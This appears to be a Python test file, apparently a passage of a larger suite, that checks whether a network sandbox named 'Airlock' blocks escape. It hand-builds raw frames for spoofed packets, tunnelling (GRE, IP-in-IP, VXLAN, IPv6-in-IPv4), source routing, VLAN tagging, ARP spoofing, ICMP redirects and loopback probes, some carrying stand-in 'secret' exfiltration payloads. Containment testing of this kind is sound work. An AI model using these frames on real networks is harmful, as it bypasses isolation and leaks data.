# Raw packets and frames, to Airlock and past it.


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 3))
own = wire.getsockname()[4]
airlock = bytes.fromhex(given["mac"].replace(":", ""))
everybody = b"\xff" * 6


def checksum(data):
    data += b"\x00" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(protocol, source, target, payload, options=b""):
    words = 5 + len(options) // 4
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(payload), 7, 0, 64, protocol, 0) + ends + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp(source, target, port, flags=2):
    head = struct.pack("!HHIIBBHHH", 40123, port, 1, 0, 0x50, flags, 8192, 0, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!HH", 6, len(head))
    return packet(6, source, target, head[:16] + struct.pack("!H", checksum(ends + head)) + head[18:])


def udp(source, target, port, data):
    return packet(17, source, target, struct.pack("!HHHH", 40123, port, 8 + len(data), 0) + data)


def icmp(source, target, kind, rest, code=0):
    head = struct.pack("!BBH", kind, code, 0) + rest
    return packet(1, source, target, head[:2] + struct.pack("!H", checksum(head)) + head[4:])


def answered(frame):
    """What speaks back and is no refusal: not a reset, not an ICMP error."""
    kind = frame[12:14]
    if frame[6:12] == own:
        return None
    if kind == b"\x08\x06":
        return "ARP" if frame[20:22] == b"\x00\x02" else None
    if kind != b"\x08\x00":
        return "ethertype " + kind.hex()
    protocol, rest = frame[23], frame[14 + (frame[14] & 15) * 4 :]
    if protocol == 6:
        return "SYN-ACK" if rest[13] & 0x12 == 0x12 else None
    if protocol == 1:
        return "echo" if rest[0] == 0 else None
    return "protocol %d" % protocol


def sends(*frames):
    wire.setblocking(False)
    try:
        while True:
            wire.recv(65536)
    except BlockingIOError:
        pass
    for frame in frames:
        wire.send(frame)
    late = time.monotonic() + 0.25
    while time.monotonic() < late:
        wire.settimeout(max(late - time.monotonic(), 0.01))
        try:
            said = answered(wire.recv(65536))
        except socket.timeout:
            break
        if said:
            raise Escaped(said)


def ethernet(payload, to=airlock, kind=0x0800, source=own):
    return to + source + struct.pack("!H", kind) + payload


def arp(operation, sender, sender_mac, target, to=everybody):
    addresses = sender_mac + socket.inet_aton(sender) + b"\x00" * 6 + socket.inet_aton(target)
    return ethernet(struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + addresses, to, 0x0806, sender_mac)


pod = "10.77.1.2"
loose_route = b"\x83\x07\x04" + socket.inet_aton(outside) + b"\x00"
dns = question("secret.index.example")


@each(
    "a frame for Airlock to forward: %s",
    ("TCP to the index", lambda: tcp(pod, outside, outside_port)),
    ("UDP to the name server", lambda: udp(pod, given["resolver"], 53, dns)),
    ("ICMP to the outside", lambda: icmp(pod, outside, 8, b"\x00\x01\x00\x01secret")),
    ("TCP to the internet", lambda: tcp(pod, "192.0.2.1", 443)),
    ("as if it came from Airlock itself", lambda: udp(beyond, given["resolver"], 53, dns)),
    ("as if it came from the outside", lambda: udp(outside, given["resolver"], 53, dns)),
    ("with a loose source route", lambda: packet(17, pod, mirror, struct.pack("!HHHH", 1, 53, 8 + len(dns), 0) + dns, loose_route)),
    ("IP in IP", lambda: packet(4, pod, mirror, udp(mirror, given["resolver"], 53, dns))),
    ("GRE", lambda: packet(47, pod, mirror, b"\x00\x00\x08\x00" + udp(mirror, given["resolver"], 53, dns))),
    ("IPv6 in IPv4", lambda: packet(41, pod, mirror, b"\x60" + b"\x00" * 39)),
    ("VXLAN", lambda: udp(pod, mirror, 4789, b"\x08" + b"\x00" * 7 + ethernet(udp(mirror, given["resolver"], 53, dns)))),
)
def _(make):
    sends(ethernet(make()))


@each(
    "a frame to Airlock's inside: %s",
    ("the gateway at 127.0.0.1", lambda: tcp(pod, "127.0.0.1", given["gateway"])),
    ("the console at 127.0.0.1", lambda: tcp(pod, "127.0.0.1", given["console"])),
    ("the gateway, from 127.0.0.1", lambda: tcp("127.0.0.1", "127.0.0.1", given["gateway"])),
    ("the console, at its other address", lambda: tcp(pod, beyond, given["console"])),
    ("the gateway, at its other address", lambda: tcp(pod, beyond, given["gateway"])),
)
def _(make):
    sends(ethernet(make()))


@tried("frames to the outside's address, for whoever takes them")
def _():
    sends(ethernet(tcp(pod, outside, outside_port), everybody), ethernet(udp(pod, given["resolver"], 53, dns), everybody))


@tried("a frame of a VLAN")
def _():
    sends(ethernet(struct.pack("!HH", 5, 0x0800) + tcp(pod, outside, outside_port), kind=0x8100))


@tried("an IPv6 router is sought")
def _():
    source = bytes.fromhex("fe80000000000000") + own[:3] + b"\xff\xfe" + own[3:]
    target = bytes.fromhex("ff020000000000000000000000000002")
    sends(ethernet(b"\x60\x00\x00\x00\x00\x08\x3a\xff" + source + target + b"\x85\x00\x7b\xb8\x00\x00\x00\x00", b"\x33\x33\x00\x00\x00\x02", 0x86DD))


@tried("LLDP and spanning tree")
def _():
    sends(ethernet(b"\x02\x07\x04" + own + b"\x00\x00", bytes.fromhex("0180c200000e"), 0x88CC))


@tried("ARP: who has the index's address?")
def _():
    sends(arp(1, pod, own, outside))


@tried("ARP: the index's and the name server's addresses are said to be here")
def _():
    sends(*[arp(2, address, own, mirror, airlock) for address in (outside, given["resolver"])])


@tried("ICMP: Airlock is told of a better way to the outside")
def _():
    rest = socket.inet_aton(pod) + udp(beyond, given["resolver"], 53, dns)[:28]
    sends(ethernet(icmp(outside, beyond, 5, rest, 1)), ethernet(icmp(mirror, mirror, 5, rest, 1)))


@tried("a raw IP socket to the outside")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(udp(pod, given["resolver"], 53, dns), (given["resolver"], 0))
        raise Escaped("sent")


@tried("a ping to the outside")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.sendto(b"\x08\x00\xf7\xfd\x00\x01\x00\x01", (outside, 0))
        raise Escaped("sent")
